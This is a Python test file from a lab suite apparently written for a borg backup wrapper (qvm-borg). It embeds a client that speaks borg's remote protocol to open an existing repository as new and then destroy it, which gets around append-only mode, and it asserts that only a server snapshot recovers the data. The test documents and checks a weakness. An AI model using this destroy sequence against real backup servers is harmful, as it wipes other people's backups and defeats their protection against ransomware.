"""An evil client that speaks borg's protocol itself: what append-only does not hold.

Opened as one to be made, a repository that is there already is not there to be appended to: so says
borg's server, and forgets the forced command's word for as long as the session lasts.
"""

import shlex

from lab import Lab
from scenarios import person, thief
from scenarios.attacker import VICTIM
from scenarios.attempts import Attempt
from scenarios.person import HOME
from scenarios.thief import OWN

_PROGRAM = """
import argparse, sys
from borg.helpers import Location
from borg.logger import setup_logging
from borg.remote import RemoteRepository

setup_logging()
nothing = ("rsh", "remote_path", "remote_ratelimit", "remote_buffer", "upload_ratelimit",
           "upload_buffer")
options = argparse.Namespace(
    **dict.fromkeys(nothing), umask=0o077, debug_topics=[], log_level="warning", log_json=False,
    lock_wait=1, info=False, progress=False, consider_part_files=False)
asked = {"path": sys.argv[2], "lock_wait": 1, "lock": True, "exclusive": True,
         "append_only": False, "make_parent_dirs": False}
with RemoteRepository(Location(sys.argv[1]), lock=False, args=options) as repository:
    for call, values in (("destroy", {}), ("open", {"create": True, **asked}), ("destroy", {})):
        try:
            repository.call(call, values)
            print(call, "done")
        except Exception as error:
            print(call, "refused")
"""
PROTOCOL = {
    "destroy": Attempt(
        "in borg's own protocol: open its repository as one to be made, then `destroy`",
        "**not prevented** by borg 1.4: all of it is gone. `qvm-borg-status` tells that it is "
        "missing; only the server's own snapshots bring it back"),
}  # fmt: skip


def test_it_destroys_its_repository_and_only_a_snapshot_has_it(enrolled: Lab) -> None:
    server, env = enrolled.server, {"BORG_RSH": shlex.join(thief.SSH), "BORG_REMOTE_PATH": "borg14"}
    snapshot = ["cp", "-a", f"{HOME}/{OWN}", "/root/snapshot"]
    server.exec(snapshot, check=True)

    argv = ["python3", "-c", _PROGRAM, thief.url(OWN), f"/./{OWN}"]
    done = enrolled.exec(VICTIM, argv, env=env, input=b"")

    assert done.stdout.split(b"\n")[:3] == [b"destroy refused", b"open refused", b"destroy done"]
    assert server.exec(["ls", f"{HOME}/{OWN}"]).returncode != 0
    said = person.runs(enrolled, "qvm-borg-status", code=27)
    assert "its repository is not on the server" in said

    server.exec(["cp", "-a", "/root/snapshot", f"{HOME}/{OWN}"], check=True)
    person.runs(enrolled, "qvm-borg-backup", "work")
